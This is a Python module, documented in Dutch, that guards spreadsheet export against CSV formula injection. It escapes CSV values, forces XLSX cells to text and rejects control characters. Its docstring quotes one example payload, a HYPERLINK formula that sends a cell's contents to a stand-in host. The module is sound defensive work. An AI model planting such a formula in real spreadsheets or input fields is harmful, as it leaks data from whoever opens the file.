"""Cellen van spreadsheets die `plan` schrijft: tekst uit een profiel of antwoord blijft tekst.

Een spreadsheet voert een cel uit als formule wanneer die begint met `=`, `+`, `-` of `@`
(ook na een TAB of CR): een team met de naam `=HYPERLINK("http://x.example/?d="&B1,"Balie")`
zou anders bij het openen gegevens kunnen wegsturen (OWASP, "CSV Injection"). Daarom:

- in XLSX is elke cel met tekst een *tekstcel* (`data_type 's'`), ook `=…` en `#N/A`;
- in CSV krijgt een waarde die met zo'n teken begint een `'` ervoor, zoals OWASP aanraadt;
- tekens die XLSX niet kan bewaren (stuurtekens) worden vooraf herkend, met hun plek.

Elke schrijver van CSV of XLSX gebruikt deze module, nu en later.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULETEKENS = ("=", "+", "-", "@", "\t", "\r")
"""Een CSV-waarde die hiermee begint, krijgt een `'` ervoor (OWASP)."""

MAX_CELTEKST = 32_767
"""Het meeste dat Excel in één cel bewaart."""

_ONGELDIG_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


class Celfout(ValueError):
    """Tekst die niet in een spreadsheetcel kan; `bericht` is een Nederlandse zin."""

    def __init__(self, bericht: str) -> None:
        super().__init__(bericht)
        self.bericht = bericht


def csv_cel(waarde: str) -> str:
    """Een CSV-waarde die een spreadsheet nooit als formule leest."""
    return "'" + waarde if waarde.startswith(FORMULETEKENS) else waarde


def csv_tekst(rijen: Iterable[Sequence[str]], scheiding: str = ";") -> str:
    """CSV zoals Nederlandse Excel hem leest: `;`, regeleinde CRLF, UTF-8 met BOM."""
    uit = io.StringIO()
    schrijver = csv.writer(uit, delimiter=scheiding, lineterminator="\r\n")
    for rij in rijen:
        schrijver.writerow([csv_cel(w) for w in rij])
    return "\ufeff" + uit.getvalue()


def probleem_in_tekst(tekst: str) -> str | None:
    """Waarom `tekst` niet in een XLSX-cel kan (stuurteken, te lang), of None als het kan."""
    gevonden = _ONGELDIG_IN_XLSX.search(tekst)
    if gevonden:
        return (
            f"bevat het onzichtbare stuurteken U+{ord(gevonden.group()):04X} "
            f"(teken {gevonden.start() + 1}); verwijder het"
        )
    if len(tekst) > MAX_CELTEKST:
        return f"is langer dan {MAX_CELTEKST} tekens, het meeste dat in een Excel-cel past"
    return None


def tekstcel(blad: Worksheet, rij: int, kolom: int, waarde: str) -> Cell:
    """Zet `waarde` als tekstcel: nooit een formule, foutwaarde of getal."""
    from openpyxl.cell.cell import Cell

    bezwaar = probleem_in_tekst(waarde)
    if bezwaar is not None:
        raise Celfout(bezwaar)
    cel = blad.cell(row=rij, column=kolom)
    assert isinstance(cel, Cell), "een samengevoegde cel krijgt geen tekst"
    cel.value = waarde
    cel.data_type = "s"  # openpyxl maakt van '=…' een formule en van '#N/A' een foutwaarde
    return cel
